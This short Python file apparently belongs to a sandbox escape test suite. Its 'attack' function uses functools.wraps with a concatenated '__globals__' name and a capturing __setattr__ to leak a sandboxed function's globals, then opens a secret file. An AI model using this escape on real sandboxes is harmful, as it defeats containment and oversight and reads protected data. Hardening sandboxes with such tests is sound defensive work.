# mypy: ignore-errors
# Technique: functools.wraps(target, assigned=(dunder,)) applied to an object with its own
# __setattr__, the decorator form of the update_wrapper generic-getattr escape.
import functools

from suaveplan import fs

store = {}


class Sink:
    def __setattr__(self, name, value):
        store[name] = value


def attack(secret_path, canary_path):
    functools.wraps(fs.read_text, assigned=("_" + "_globals_" + "_",), updated=())(Sink())
    g = store["_" + "_globals_" + "_"]
    print("SANDBOX-" + "ESCAPED")
    return g["_b"].open(secret_path).read()
